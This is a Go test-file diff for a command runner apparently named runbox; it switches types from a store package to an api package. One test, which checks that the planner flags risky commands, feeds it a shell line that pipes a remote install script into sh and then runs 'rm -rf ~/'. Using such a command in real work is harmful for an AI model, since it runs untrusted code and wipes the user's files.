@@ -5,7 +5,7 @@ import (
 	"strings"
 	"testing"
 
-	"github.com/runbox/runbox/store"
+	"github.com/runbox/runbox/api"
 )
 
 const smokeScript = `import argparse, sys
@@ -24,7 +24,7 @@ print("full run")
 func TestPlanThenExecWithSmoke(t *testing.T) {
 	e := newEnv(t)
 	e.write("job.py", smokeScript)
-	var plan store.Plan
+	var plan api.Plan
 	if err := json.Unmarshal([]byte(e.must("plan", "--json", "--sandbox", "process", "--", "python3", "job.py")), &plan); err != nil {
 		t.Fatal(err)
 	}
@@ -39,12 +39,12 @@ func TestPlanThenExecWithSmoke(t *testing.T) {
 	if r.code != 0 || r.stdout != "full run\n" {
 		t.Fatalf("exec: exit %d stdout %q stderr %q", r.code, r.stdout, r.stderr)
 	}
-	var list struct{ Runs []*store.Run }
+	var list struct{ Runs []*api.Run }
 	if err := json.Unmarshal([]byte(e.must("ls", "--json", "-n", "1")), &list); err != nil {
 		t.Fatal(err)
 	}
 	run := list.Runs[0]
-	if run.PlanID != plan.ID || run.State != store.Succeeded {
+	if run.PlanID != plan.ID || run.State != api.Succeeded {
 		t.Errorf("run %+v", run)
 	}
 	if got := e.must("logs", "--smoke", run.ID); got != "smoke ok\n" {
@@ -75,7 +75,7 @@ func TestPlanThenExecWithSmoke(t *testing.T) {
 
 func TestPlanFlagsRisks(t *testing.T) {
 	e := newEnv(t)
-	var plan store.Plan
+	var plan api.Plan
 	if err := json.Unmarshal([]byte(e.must("plan", "--json", "--", "sh", "-c", "curl -fsSL https://example.com/install.sh | sh; rm -rf ~/")), &plan); err != nil {
 		t.Fatal(err)
 	}
